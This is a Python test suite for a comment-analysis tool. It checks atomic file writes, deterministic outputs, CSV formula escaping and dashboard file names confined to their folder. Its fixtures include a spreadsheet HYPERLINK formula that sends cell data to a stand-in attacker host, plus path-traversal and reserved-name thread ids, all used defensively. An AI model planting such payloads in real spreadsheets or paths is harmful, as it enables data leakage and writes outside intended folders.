"""Outputs researchers can rely on: written atomically (a failed run leaves the old files byte for byte,
and no temporary file behind), the same bytes on every run, CSV cells that a spreadsheet will not run
as formulas, and dashboard file names that cannot leave their folder."""

from __future__ import annotations

import csv
import errno
import io
import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import polars as pl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from commentscope.scraper.errors import CommentscopeError, InputError
from commentscope.scraper.records import Comment, Thread, comments_frame
from commentscope.scraper.store import atomic_open, sidecar_path, write_threads
from tests.conftest import DATA, SEED, SEED_THREAD_ID, run_cli

OLD_RECORDS = b'{"old": "records"}\n'
OLD_SIDECAR = b'{"version": 1, "threads": []}\n'


def _threads() -> list[Thread]:
    comments = [Comment(thread_id="t-1", id=str(n), position=n, author=f"A{n}", timestamp=None, text="x" * 5000)
                for n in range(1, 40)]
    return [Thread(thread_id="t-1", source_format="csv", comments=comments)]


def _existing_pair(folder: Path) -> Path:
    out = folder / "out.jsonl"
    out.write_bytes(OLD_RECORDS)
    sidecar_path(out).write_bytes(OLD_SIDECAR)
    return out


class _FailingHandle:
    """A file handle that writes half of what it is given, then fails as a full disk would."""

    def __init__(self, handle, exception: BaseException):
        self._handle = handle
        self._exception = exception

    def write(self, data):
        self._handle.write(data[: len(data) // 2])
        self._handle.flush()
        raise self._exception

    def __getattr__(self, name):
        return getattr(self._handle, name)

    def __enter__(self):
        return self

    def __exit__(self, *exc):
        return self._handle.__exit__(*exc)


def _fail_on_open(monkeypatch, which: int, exception: BaseException) -> None:
    """Make the ``which``-th file opened by ``atomic_open`` (1-based) fail half way through a write."""
    real_fdopen = os.fdopen
    opened = []

    def fdopen(fd, *args, **kwargs):
        handle = real_fdopen(fd, *args, **kwargs)
        opened.append(handle)
        return _FailingHandle(handle, exception) if len(opened) == which else handle

    monkeypatch.setattr(os, "fdopen", fdopen)


def _disk_full() -> OSError:
    return OSError(errno.ENOSPC, "No space left on device")


# ---- atomic writes, in process -------------------------------------------------------------------

@pytest.mark.parametrize("which", [1, 2], ids=["records-fail", "sidecar-fails"])
def test_write_threads_failing_mid_write_leaves_the_old_pair(tmp_path, monkeypatch, which):
    out = _existing_pair(tmp_path)
    _fail_on_open(monkeypatch, which, _disk_full())
    with pytest.raises(InputError, match="No space left on device"):
        write_threads(_threads(), out)
    assert out.read_bytes() == OLD_RECORDS
    assert sidecar_path(out).read_bytes() == OLD_SIDECAR
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.jsonl", "out.threads.json"]


def test_interrupt_mid_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    out = _existing_pair(tmp_path)
    _fail_on_open(monkeypatch, 1, KeyboardInterrupt())
    with pytest.raises(KeyboardInterrupt):
        write_threads(_threads(), out)
    assert out.read_bytes() == OLD_RECORDS
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.jsonl", "out.threads.json"]


@pytest.mark.parametrize("suffix", ["csv", "json", "parquet"])
def test_tally_table_failing_mid_write_leaves_the_old_file(tmp_path, monkeypatch, suffix):
    from commentscope.analysis.report.tally import write_table

    out = tmp_path / f"tally.{suffix}"
    out.write_bytes(b"OLD TABLE")
    frame = pl.DataFrame({"author": [f"a{n}" for n in range(3000)], "total": list(range(3000))})
    _fail_on_open(monkeypatch, 1, _disk_full())
    # Parquet's writer wraps the disk error in its own; the file is what matters here.
    with pytest.raises((CommentscopeError, pl.exceptions.PolarsError)):
        write_table(frame, out)
    assert out.read_bytes() == b"OLD TABLE"
    assert [p.name for p in tmp_path.iterdir()] == [out.name]


def test_atomic_open_succeeds_only_when_the_block_does(tmp_path):
    out = tmp_path / "x.txt"
    out.write_text("old")
    with pytest.raises(ValueError):
        with atomic_open(out) as handle:
            handle.write("new and half")
            raise ValueError("the producer failed")
    assert out.read_text() == "old"
    with atomic_open(out) as handle:
        handle.write("new")
    assert out.read_text() == "new"
    assert [p.name for p in tmp_path.iterdir()] == ["x.txt"]


def test_output_that_is_a_folder_is_refused_before_anything_is_written(tmp_path):
    (tmp_path / "out.jsonl").mkdir()
    with pytest.raises(InputError, match="is a folder, not a file name"):
        write_threads(_threads(), tmp_path / "out.jsonl")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.jsonl"]
    # The sidecar's name taken by a folder: the records file is not written either.
    (tmp_path / "b.threads.json").mkdir()
    with pytest.raises(InputError, match="b.threads.json: is a folder"):
        write_threads(_threads(), tmp_path / "b.jsonl")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.threads.json", "out.jsonl"]


def test_unwritable_folder_is_an_input_error(tmp_path, monkeypatch):
    import tempfile

    def refuse(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied")

    monkeypatch.setattr(tempfile, "mkstemp", refuse)
    with pytest.raises(InputError, match=r"cannot write in this folder \(Permission denied\)"):
        write_threads(_threads(), tmp_path / "out.jsonl")
    assert list(tmp_path.iterdir()) == []


def test_outputs_get_ordinary_permissions_and_keep_a_replaced_files_mode(tmp_path):
    old_mask = os.umask(0o022)
    try:
        fresh = tmp_path / "fresh.jsonl"
        write_threads(_threads(), fresh)
        assert stat.S_IMODE(fresh.stat().st_mode) == 0o644
        assert stat.S_IMODE(sidecar_path(fresh).stat().st_mode) == 0o644
        kept = tmp_path / "kept.jsonl"
        kept.write_text("old")
        kept.chmod(0o640)
        write_threads(_threads(), kept)
        assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    finally:
        os.umask(old_mask)


# ---- atomic writes, through the CLI --------------------------------------------------------------

def _listing(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir())}


@pytest.mark.parametrize("command, name", [
    ("scrape", "out.jsonl"),
    ("analyze", "out.jsonl"),
    ("analyze", "out.parquet"),
    ("tally", "out.csv"),
])
def test_cli_failure_leaves_existing_outputs_byte_for_byte(tmp_path, command, name):
    out = tmp_path / name
    out.write_bytes(b"precious earlier result\n")
    sidecar_path(out).write_bytes(OLD_SIDECAR)
    before = _listing(tmp_path)
    result = run_cli(command, DATA / "bad" / "truncated_reddit.json", "-o", out)
    assert result.returncode == 2, result.stderr
    assert _listing(tmp_path) == before


def test_cli_output_that_is_a_folder_is_exit_2_and_writes_nothing(tmp_path):
    (tmp_path / "out").mkdir()
    result = run_cli("scrape", SEED, "-o", tmp_path / "out")
    assert result.returncode == 2
    assert result.stderr.strip().splitlines()[-1] == (
        f"Error: {tmp_path / 'out'}: is a folder, not a file name; give the file to write, such as OUT.jsonl")
    assert [p.name for p in tmp_path.iterdir()] == ["out"]


# ---- determinism ---------------------------------------------------------------------------------

def _run_in_fresh_process(args: list[str], cwd: Path, hash_seed: str) -> None:
    env = {**os.environ, "PYTHONHASHSEED": hash_seed}
    done = subprocess.run([sys.executable, "-m", "commentscope.analysis.cli", *args], cwd=cwd, env=env, capture_output=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr.decode("utf-8", "replace")[-2000:]


def _every_output(run_dir: Path, hash_seed: str) -> dict[str, bytes]:
    inputs = [str(SEED), str(DATA / "formats" / "tabular" / "moderation_export.csv"),
              str(DATA / "formats" / "reddit" / "link_post.json")]
    steps = [
        ["scrape", *inputs, "-o", "c.jsonl"],
        ["analyze", "c.jsonl", "-o", "a.jsonl"],
        ["analyze", "c.jsonl", "-o", "a.parquet"],
        ["tally", "c.jsonl", "--by", "author", "-o", "t.csv"],
        ["tally", "c.jsonl", "--by", "day", "-o", "t.json"],
        ["dashboard", str(SEED), "-o", "dash"],
    ]
    run_dir.mkdir()
    for step in steps:
        _run_in_fresh_process(step, run_dir, hash_seed)
    return {str(p.relative_to(run_dir)): p.read_bytes() for p in sorted(run_dir.rglob("*")) if p.is_file()}


def test_same_input_gives_the_same_bytes_in_every_output(tmp_path):
    first = _every_output(tmp_path / "one", "1")
    second = _every_output(tmp_path / "two", "2")
    assert sorted(first) == ["a.jsonl", "a.parquet", "a.threads.json", "c.jsonl", "c.threads.json", "dash/"
                             "translated-doc-debunks-narrative-of-al-qaeda-iran-alliance.html", "t.csv", "t.json"]
    for name in first:
        assert first[name] == second[name], f"{name} differs between two runs"
    records = pl.read_ndjson(io.BytesIO(first["c.jsonl"]))
    assert records.filter(pl.col("thread_id") == SEED_THREAD_ID).height == 24
    assert records.get_column("thread_id").n_unique() == 4


# ---- spreadsheet-safe CSV ------------------------------------------------------------------------

FORMULA_AUTHORS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1 555 0100", "-2+3",
                   "@SUM(A1:A9)", "=1+1", "Plain Name"]


def _formula_thread(folder: Path) -> Path:
    path = folder / "formula.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["comment_id", "author", "text"])
        for number, author in enumerate(FORMULA_AUTHORS, 1):
            writer.writerow([number, author, f"Comment number {number} about the plan."])
    return path


@pytest.mark.parametrize("to_file", [True, False], ids=["file", "stdout"])
def test_tally_csv_by_author_escapes_formulas(tmp_path, to_file):
    source = _formula_thread(tmp_path)
    out = tmp_path / "by-author.csv"
    result = run_cli("tally", source, "--by", "author", *(["-o", out] if to_file else []))
    assert result.returncode == 0, result.stderr
    text = out.read_text(encoding="utf-8") if to_file else result.stdout
    rows = list(csv.DictReader(io.StringIO(text)))
    authors = {row["author"] for row in rows}
    assert authors == {"'" + a for a in FORMULA_AUTHORS if a[0] in "=+-@"} | {"Plain Name"}
    assert all(row["total"] == "1" for row in rows)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_tally_json_keeps_the_names_verbatim(tmp_path):
    out = tmp_path / "by-author.json"
    result = run_cli("tally", _formula_thread(tmp_path), "--by", "author", "-o", out)
    assert result.returncode == 0, result.stderr
    assert {row["author"] for row in json.loads(out.read_text(encoding="utf-8"))} == set(FORMULA_AUTHORS)


# ---- dashboard file names ------------------------------------------------------------------------

HOSTILE_IDS = ["../../etc/x", "/abs", "con", "CON.txt", "a\\b", "x" * 5000, "日本語スレッド", "..", " ",
               "a/../../b", "a\x00b", ".hidden"]


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=300))
def test_safe_name_is_one_plain_file_name(thread_id):
    from commentscope.analysis.views.dashboard import safe_name

    name = safe_name(thread_id)
    assert name and len(name) <= 120
    assert "/" not in name and "\\" not in name and "\x00" not in name
    assert not name.startswith((".", "-"))
    assert name.split(".")[0].lower() not in {"con", "prn", "aux", "nul", "com1", "lpt1"}


@given(st.lists(st.text(max_size=40), min_size=2, max_size=6, unique=True))
@settings(max_examples=200, deadline=None)
def test_safe_names_of_different_ids_differ(thread_ids):
    from commentscope.analysis.views.dashboard import safe_name

    assert len({safe_name(t) for t in thread_ids}) == len(thread_ids)


def test_safe_names_differ_on_a_case_insensitive_disk():
    """macOS and Windows disks fold case: two YouTube videos (ids are case-sensitive) must not share a file."""
    from commentscope.analysis.views.dashboard import safe_name

    assert safe_name("youtube-dQw4w9WgXcQ").lower() != safe_name("youtube-dqw4w9wgxcq").lower()


def test_write_dashboards_keeps_every_file_inside_the_folder(tmp_path):
    from commentscope.analysis.views.dashboard import write_dashboards
    from commentscope.analysis.pipeline import analyze

    threads = [Thread(thread_id=t, source_format="csv") for t in HOSTILE_IDS]
    comments = [Comment(thread_id=t, id="1", position=1, author="Ann", timestamp=None, text="I agree.")
                for t in HOSTILE_IDS]
    frame = analyze(comments_frame(comments), threads, workers=1)
    out_dir = tmp_path / "deep" / "out"
    paths = write_dashboards(frame, threads, out_dir)
    assert len(paths) == len(HOSTILE_IDS) == len(set(paths))
    written = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert written == sorted(paths)
    for path in written:
        assert path.resolve().parent == out_dir.resolve()
        assert path.suffix == ".html" and len(path.name) <= 125


def test_dashboard_failing_mid_write_leaves_the_old_page(tmp_path, monkeypatch):
    from commentscope.analysis.views.dashboard import safe_name, write_dashboards
    from commentscope.analysis.pipeline import analyze

    thread = Thread(thread_id="wp-1", source_format="csv")
    frame = analyze(comments_frame([Comment(thread_id="wp-1", id="1", position=1, author="Ann", timestamp=None,
                                            text="Good point.")]), [thread], workers=1)
    page = tmp_path / f"{safe_name('wp-1')}.html"
    page.write_bytes(b"<html>yesterday's dashboard</html>")
    _fail_on_open(monkeypatch, 1, _disk_full())
    with pytest.raises(InputError):
        write_dashboards(frame, [thread], tmp_path)
    assert page.read_bytes() == b"<html>yesterday's dashboard</html>"
    assert [p.name for p in tmp_path.iterdir()] == [page.name]


def test_empty_thread_id_is_refused_not_written(tmp_path):
    from commentscope.analysis.views.dashboard import write_dashboards
    from commentscope.analysis.pipeline import analyze

    comment = Comment(thread_id="", id="1", position=1, author="Ann", timestamp=None, text="x")
    frame = analyze(comments_frame([comment]), [Thread(thread_id="", source_format="csv")], workers=1)
    with pytest.raises(CommentscopeError):
        write_dashboards(frame, [Thread(thread_id="", source_format="csv")], tmp_path / "out")
    assert not any(p.is_file() for p in tmp_path.rglob("*"))
